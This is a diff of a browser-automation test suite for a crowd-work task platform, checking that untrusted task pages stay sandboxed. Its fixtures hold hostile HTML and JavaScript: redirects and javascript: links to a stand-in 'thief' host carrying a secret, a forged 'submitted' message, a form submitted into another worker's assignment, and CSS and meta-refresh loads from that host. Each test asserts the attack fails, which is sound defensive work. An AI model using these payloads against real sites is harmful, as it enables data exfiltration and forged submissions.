@@ -106,23 +106,41 @@ def test_a_script_reads_neither_cookies_nor_storage_nor_the_page_around_it(lab, 
         assert "/projects/" in mira.page.url
 
 
-def test_requests_to_our_own_server_come_without_cookies_and_are_not_answered_to_it(lab, newcomer, server):
-    page = """<h1 id=said>wait</h1><script>(async () => {
+def test_requests_to_our_server_come_without_cookies_and_neither_frames_nor_style_reach_us(lab, newcomer):
+    fetches = """<h1 id=said>wait</h1><script>(async () => {
       const said = [];
       for (const path of ["/profile", "/tasks", "/dashboard"]) {
         try { said.push((await fetch(path, {credentials: "include"})).status); } catch { said.push("no"); }
       }
       document.getElementById("said").textContent = said.join(" ");
     })();</script>"""
-    group = post_html(lab, page)
     mira = newcomer()
     sent = []
     mira.page.on(
         "request", lambda request: sent.append(request) if request.resource_type == "fetch" else None
     )
-    mira.page.goto(f"/projects/{group}/tasks")
+    mira.page.goto(f"/projects/{post_html(lab, fetches)}/tasks")
     expect(task(mira).locator("#said")).to_have_text("no no no")
     assert all("cookie" not in request.all_headers() for request in sent)
+
+    frames = """<h1>Frames</h1><iframe id="a" src="/profile"></iframe><p id="said">-</p>
+    <iframe id="b" srcdoc="<script>parent.postMessage(self.origin, '*')</script>"></iframe>
+    <script>addEventListener("message", (event) => {
+      if (event.source === b.contentWindow) said.textContent = event.data;  // not of the page around
+    });</script>
+    <object data="/profile"></object><embed src="/profile">"""
+    mira.accept(post_html(lab, frames, Title="Frames"))
+    expect(task(mira).locator("#said")).to_have_text("null")
+    for frame in mira.page.frames:
+        assert "Profile" not in frame.content()
+
+    style = """<style>html, body { position: fixed; inset: 0; z-index: 2147483647; background: red }
+    form, button { display: none !important } </style><h1>Red</h1>"""
+    mira.accept(post_html(lab, style, height=200, Title="Style"))
+    expect(task(mira).get_by_role("heading")).to_have_text("Red")
+    expect(mira.page.get_by_role("button", name="Return")).to_be_visible()
+    mira.page.get_by_role("button", name="Return").click()
+    expect(mira.page.get_by_role("status")).to_contain_text("You returned the HIT.")
 
 
 def test_a_form_that_goes_elsewhere_goes_nowhere(lab, newcomer, thief):
@@ -145,11 +163,13 @@ def test_a_form_that_goes_elsewhere_goes_nowhere(lab, newcomer, thief):
     expect(mira.page.get_by_role("heading", level=1)).to_have_text("Profile")
 
 
-def test_the_page_cannot_lead_its_frame_or_the_window_elsewhere(lab, newcomer, thief):
-    page = f"""<h1>Lead</h1>
+def test_the_page_cannot_lead_its_frame_or_the_window_elsewhere_and_links_open_tabs(lab, newcomer, thief):
+    page = f"""<h1 id="start">Lead</h1><input aria-label="Typed">
     <a href="javascript:top.location='{thief.url}/script'" id="script" target="_top">script</a>
-    <button onclick="top.location = '{thief.url}/click'">Click</button>
-    <button onclick="location = '{thief.url}/frame?secret'">Frame</button>"""
+    <button type="button" onclick="top.location = '{thief.url}/click'">Click</button>
+    <button type="button" onclick="location = '{thief.url}/frame?secret'">Frame</button>
+    <a href="{thief.url}/same">same frame</a> <a href="{thief.url}/top" target="_top">whole window</a>
+    <a href="#start">within</a>"""
     group = post_html(lab, page)
     mira = newcomer()
     mira.accept(group)
@@ -160,16 +180,7 @@ def test_the_page_cannot_lead_its_frame_or_the_window_elsewhere(lab, newcomer, t
         mira.page.wait_for_timeout(300)
         assert mira.page.url == here
     assert thief.asked == []
-
-
-def test_links_open_tabs_that_know_nothing_of_us(lab, newcomer, thief):
-    page = f"""<h1 id="start">Links</h1><input aria-label="Typed">
-    <a href="{thief.url}/same">same frame</a> <a href="{thief.url}/top" target="_top">whole window</a>
-    <a href="#start">within</a>"""
-    group = post_html(lab, page)
-    mira = newcomer()
-    mira.accept(group)
-    here = mira.page.url
+    mira.page.reload()
     task(mira).get_by_label("Typed").fill("kept")
     for name in ("same frame", "whole window"):
         with mira.page.context.expect_page() as opened:
@@ -182,19 +193,23 @@ def test_links_open_tabs_that_know_nothing_of_us(lab, newcomer, thief):
     assert [line.split()[1] for line in thief.asked if "favicon" not in line] == ["/same", "/top"]
 
 
-def test_a_claim_to_be_submitted_is_not_believed(lab, newcomer):
-    page = """<h1>Liar</h1><script>
+def test_a_claim_to_be_submitted_is_not_believed_nor_a_form_for_another_holding(lab, newcomer):
+    claim = """<h1>Liar</h1><script>
     const holding = new URLSearchParams(location.search).get("turkSubmitTo").split("/s/")[1].split("-")[0];
     if (!sessionStorage.length) parent.postMessage({distillery: "submitted", holding}, "*");
     </script>"""
-    group = post_html(lab, page)
-    mira = newcomer()
-    mira.page.goto(f"/projects/{group}/tasks")
+    mira, ben = newcomer(), newcomer()
+    mira.page.goto(f"/projects/{post_html(lab, claim, Title='Mine')}/tasks")
     mira.page.get_by_role("button", name="Accept", exact=True).click()
-    mira.page.wait_for_timeout(1500)
+    ben.accept(post_html(lab, "<h1>Other</h1><form method=post><input name=a value=1></form>", Title="Other"))
+    address = mira.page.locator("iframe").get_attribute("src").split("/task?")[0]
+    task(ben).locator("form").evaluate(
+        "(form, to) => { form.action = to + '/mturk/externalSubmit'; form.submit(); }", address
+    )
+    ben.page.wait_for_timeout(1000)
     assert answers(lab) == []
-    hit = lab.account.client.list_hits()["HITs"][0]
-    assert hit["NumberOfAssignmentsPending"] == 1
+    hits = lab.account.client.list_hits()["HITs"]
+    assert [hit["NumberOfAssignmentsPending"] for hit in hits] == [1, 1]
 
 
 def test_a_popup_knows_nothing_of_us(lab, newcomer, thief):
@@ -222,52 +237,6 @@ def test_a_popup_knows_nothing_of_us(lab, newcomer, thief):
     assert all("session" not in asked for asked in thief.asked)
 
 
-def test_a_frame_inside_has_no_origin_either_and_ours_refuse_to_be_in_one(lab, newcomer):
-    page = """<h1>Frames</h1><iframe id="a" src="/profile"></iframe><p id="said">-</p>
-    <iframe id="b" srcdoc="<script>parent.postMessage(self.origin, '*')</script>"></iframe>
-    <script>addEventListener("message", (event) => {
-      if (event.source === b.contentWindow) said.textContent = event.data;  // not of the page around
-    });</script>
-    <object data="/profile"></object><embed src="/profile">"""
-    group = post_html(lab, page)
-    mira = newcomer()
-    mira.accept(group)
-    expect(task(mira).locator("#said")).to_have_text("null")
-    for frame in mira.page.frames:
-        assert "Profile" not in frame.content()
-
-
-def test_style_changes_nothing_around_the_frame(lab, newcomer):
-    page = """<style>html, body { position: fixed; inset: 0; z-index: 2147483647; background: red }
-    form, button { display: none !important } </style><h1>Red</h1>"""
-    group = post_html(lab, page, height=200)
-    mira = newcomer()
-    mira.accept(group)
-    expect(task(mira).get_by_role("heading")).to_have_text("Red")
-    expect(mira.page.get_by_role("button", name="Return")).to_be_visible()
-    mira.page.get_by_role("button", name="Return").click()
-    expect(mira.page.get_by_role("status")).to_contain_text("You returned the HIT.")
-
-
-def test_a_page_cannot_submit_for_another_holding(lab, newcomer):
-    first = post_html(lab, "<h1>Mine</h1>", Title="Mine")
-    second = post_html(
-        lab,
-        """<h1>Other</h1><form id="f" method="post"><input name="a" value="1"></form>
-    <button onclick="f.action = sessionStorage.victim || location.hash.slice(1); f.submit()">Go</button>""",
-        Title="Other",
-    )
-    mira, ben = newcomer(), newcomer()
-    mira.accept(first)
-    address = mira.page.locator("iframe").get_attribute("src").split("/task?")[0]
-    ben.accept(second)
-    task(ben).locator("form").evaluate(
-        "(form, to) => { form.action = to + '/mturk/externalSubmit'; form.submit(); }", address
-    )
-    ben.page.wait_for_timeout(300)
-    assert answers(lab) == []
-
-
 BATCH_SECRETS = """<!doctype html><html lang="en"><head>
 <style>@import url("{thief}/import");
 body {{ background: url("{thief}/background") }}
@@ -293,35 +262,33 @@ LEAVING = """<!doctype html><html lang="en"><head>
 <meta http-equiv="refresh" content="0;url={thief}/refresh"></head><body><h1>Ready</h1></body></html>"""
 
 
-def test_a_page_of_a_batch_loads_from_its_hosts_only(lab, newcomer, thief, server):
-    page = BATCH_SECRETS.format(thief=thief.url)
-    group = post_html(lab, page)
-    hit_id = lab.account.client.list_hits()["HITs"][0]["HITId"]
+def test_a_page_of_a_batch_loads_from_its_hosts_only_and_none_sends_its_reader_elsewhere(
+    lab, newcomer, thief, server
+):
     mira = newcomer()
-    mira.page.goto(f"/projects/{group}/tasks")
-    expect(task(mira).get_by_role("heading")).to_have_text("Ready")
-    mira.page.wait_for_timeout(1500)
-    loaded = {line.split()[1] for line in thief.asked}
+    leaving = mira.page.context.new_page()
+    groups = [
+        post_html(lab, page.format(thief=thief.url), Title=title)
+        for title, page in (("Secrets", BATCH_SECRETS), ("Leaving", LEAVING))
+    ]
+    hits = {hit["Title"]: hit["HITId"] for hit in lab.account.client.list_hits()["HITs"]}
+
+    def look() -> set[str]:
+        thief.asked.clear()
+        for page, group in zip((leaving, mira.page), reversed(groups), strict=True):
+            page.goto(f"/projects/{group}/tasks")
+        expect(task(mira).get_by_role("heading")).to_have_text("Ready")
+        task(mira).locator("#ping").click()
+        mira.page.wait_for_timeout(1500)
+        return {line.split()[1] for line in thief.asked}
+
+    loaded = look()
     assert {"/image", "/fetch", "/sheet"} <= loaded  # with a key, a requester loads from anywhere
-    thief.asked.clear()
-    server.console("shell", "--no-imports", "-c", MADE_BATCH.format(hit_id=hit_id, number=1))
-    mira.page.goto(f"/projects/{group}/tasks")
-    expect(task(mira).get_by_role("heading")).to_have_text("Ready")
-    task(mira).locator("#ping").click()
-    mira.page.wait_for_timeout(1500)
-    assert thief.asked == []
-
-
-def test_no_page_sends_its_reader_elsewhere(lab, newcomer, thief, server):
-    group = post_html(lab, LEAVING.format(thief=thief.url))
-    hit_id = lab.account.client.list_hits()["HITs"][0]["HITId"]
-    mira = newcomer()
-    mira.page.goto(f"/projects/{group}/tasks")
-    mira.page.wait_for_timeout(1500)
-    server.console("shell", "--no-imports", "-c", MADE_BATCH.format(hit_id=hit_id, number=2))
-    mira.page.goto(f"/projects/{group}/tasks")
-    mira.page.wait_for_timeout(1500)
-    assert [line for line in thief.asked if "/refresh" in line] == []
+    assert "/refresh" not in loaded
+    for number, title in enumerate(("Secrets", "Leaving"), 1):
+        made = MADE_BATCH.format(hit_id=hits[title], number=number)
+        server.console("shell", "--no-imports", "-c", made)
+    assert look() == set()
 
 
 MADE_BATCH = """
